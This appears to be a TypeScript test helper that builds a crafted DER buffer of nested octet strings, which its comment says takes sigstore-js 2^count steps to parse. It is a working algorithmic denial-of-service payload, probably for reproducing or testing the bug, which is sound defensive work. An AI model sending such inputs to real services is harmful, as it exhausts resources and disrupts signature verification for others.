/**
 * Returns DER that sigstore-js needs 2^count steps to read. It consists of octet strings in which the content looks
 * like the start of an element that covers the rest. It is 100 bytes long for a count of 25.
 */
export function endlessDer(count: number): Buffer {
  let rest: Buffer = Buffer.from([0x05, 0]);
  for (let at = 0; at < count; at++) {
    rest = Buffer.concat([Buffer.from([0x04, 2, 0x30, rest.length]), rest]);
  }
  return Buffer.concat([Buffer.from([0x30, rest.length]), rest]);
}
